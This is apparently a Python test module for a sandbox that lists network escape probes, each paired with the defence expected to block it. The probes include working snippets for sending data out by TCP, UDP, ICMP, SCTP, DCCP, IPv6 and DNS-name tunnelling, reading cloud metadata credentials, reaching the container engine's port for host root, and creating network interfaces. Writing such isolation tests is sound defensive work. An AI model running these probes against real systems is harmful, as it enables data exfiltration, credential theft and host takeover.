"""Ways out over a network, by every protocol. All of them end at the same wall: there is no interface."""

from __future__ import annotations

from sandbox.isolation.probe.attack import (
    BRIDGE,
    ENGINE_NAMES,
    INTERNET,
    INTERNET_6,
    METADATA,
    NAME_SERVER,
    NEIGHBOUR,
    Attack,
    reached,
)


def _echoed(kind: str, address: str, port: int, *, family: str = "AF_INET") -> str:
    return f"""
with socket.socket(socket.{family}, {kind}) as s:
    s.settimeout(2)
    s.sendto(b"row", ({address!r}, {port}))
    s.recv(64)
"""


NETWORK: tuple[Attack, ...] = (
    Attack(
        name="reach the internet by TCP",
        would="send rows to any server",
        code=reached(INTERNET, 443),
        refused_by="network_mode",
    ),
    Attack(
        name="reach the internet by UDP",
        would="the same, past a filter that knows TCP only",
        code=_echoed("socket.SOCK_DGRAM", INTERNET, 9),
        refused_by="network_mode",
    ),
    Attack(
        name="reach the internet by ping",
        would="carry rows in packets that many filters let through",
        code=f"""
packet = bytes([8, 0]) + b"\\xf7\\xff" + bytes(4)
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as s:
    s.settimeout(2)
    s.sendto(packet, ({INTERNET!r}, 0))
    s.recv(64)
""",
        refused_by="network_mode",
    ),
    Attack(
        name="reach the internet by SCTP",
        would="the same by a protocol that few filters know",
        code=f"""
with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132) as s:
    s.settimeout(2)
    s.connect(({INTERNET!r}, 9))
""",
        refused_by="network_mode",
    ),
    Attack(
        name="reach the internet by multipath TCP",
        would="the same over several ways at once",
        code=f"""
with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as s:
    s.settimeout(2)
    s.connect(({INTERNET!r}, 443))
""",
        refused_by="network_mode",
    ),
    Attack(
        name="reach the internet by UDP-Lite",
        would="the same by a cousin of UDP",
        code=f"""
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136) as s:
    s.settimeout(2)
    s.connect(({INTERNET!r}, 9))
    s.send(b"row")
""",
        refused_by="network_mode",
    ),
    Attack(
        name="reach the internet by DCCP",
        would="the same by a protocol whose code in kernels is seldom looked at",
        code=f"""
with socket.socket(socket.AF_INET, 6, 33) as s:
    s.settimeout(2)
    s.connect(({INTERNET!r}, 9))
""",
        refused_by="network_mode",
    ),
    Attack(
        name="reach the internet by IPv6",
        would="go around rules that were written for IPv4",
        code=reached(INTERNET_6, 443),
        refused_by="seccomp, network_mode",
    ),
    Attack(
        name="reach the internet by IPv6 and UDP",
        would="the same without a connection",
        code=_echoed("socket.SOCK_DGRAM", INTERNET_6, 9, family="AF_INET6"),
        refused_by="seccomp, network_mode",
    ),
    Attack(
        name="ask a name server",
        would="carry rows out in names that are looked up",
        code='socket.getaddrinfo("row-1.example.org", 80, socket.AF_INET)',
        refused_by="network_mode, dns",
    ),
    Attack(
        name="ask a name server that is named by its address",
        would="the same, past the settings for names",
        code=_echoed("socket.SOCK_DGRAM", NAME_SERVER, 53).replace('b"row"', "question('row-1.example.org')"),
        refused_by="network_mode",
    ),
    Attack(
        name="ask a name server by TCP",
        would="the same, past a filter that knows UDP only",
        code=reached(NAME_SERVER, 53),
        refused_by="network_mode",
    ),
    Attack(
        name="ask the engine's own name server",
        would="let the container engine carry the question out of a closed network (CVE-2024-29018)",
        code=_echoed("socket.SOCK_DGRAM", ENGINE_NAMES, 53).replace(
            'b"row"', "question('row-1.example.org')"
        ),
        refused_by="network_mode",
    ),
    Attack(
        name="ask the metadata address",
        would="read the host's own credentials in a cloud",
        code=reached(METADATA, 80),
        refused_by="network_mode",
    ),
    Attack(
        name="reach the engine's port on the host",
        would="be root on the host",
        code=reached(BRIDGE, 2375),
        refused_by="network_mode",
    ),
    Attack(
        name="reach the database's port on the host",
        would="read grants, budgets and the log, past the portal",
        code=reached(BRIDGE, 5432),
        refused_by="network_mode",
    ),
    Attack(
        name="reach another container",
        would="read another person's notebook",
        code=reached(NEIGHBOUR, 8888),
        refused_by="network_mode",
    ),
    Attack(
        name="give itself an address",
        would="take part in a network, or answer in another's place",
        code="""
request = struct.pack("16sH2s4s8s", b"lo:9", socket.AF_INET, b"", socket.inet_aton("198.51.100.9"), b"")
with socket.socket() as s:
    fcntl.ioctl(s, 0x8916, request)
""",
        refused_by="cap_drop",
        needs="NET_ADMIN",
    ),
    Attack(
        name="make an interface",
        would="begin a network of its own",
        code="""
name = struct.pack("HH8s", 12, 3, b"probe9")
kind = struct.pack("HH8s", 9 + 2, 1, b"dummy")
info = struct.pack("HH", 4 + len(kind), 18) + kind
body = struct.pack("BxHiII", 0, 0, 0, 0, 0) + name + info
message = struct.pack("IHHII", 16 + len(body), 16, 0x605, 1, 0) + body
with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as s:
    s.settimeout(2)
    s.sendto(message, (0, 0))
    error = struct.unpack_from("i", s.recv(4096), 16)[0]
    if error:
        raise OSError(-error, os.strerror(-error))
""",
        refused_by="cap_drop",
        needs="NET_ADMIN",
    ),
)
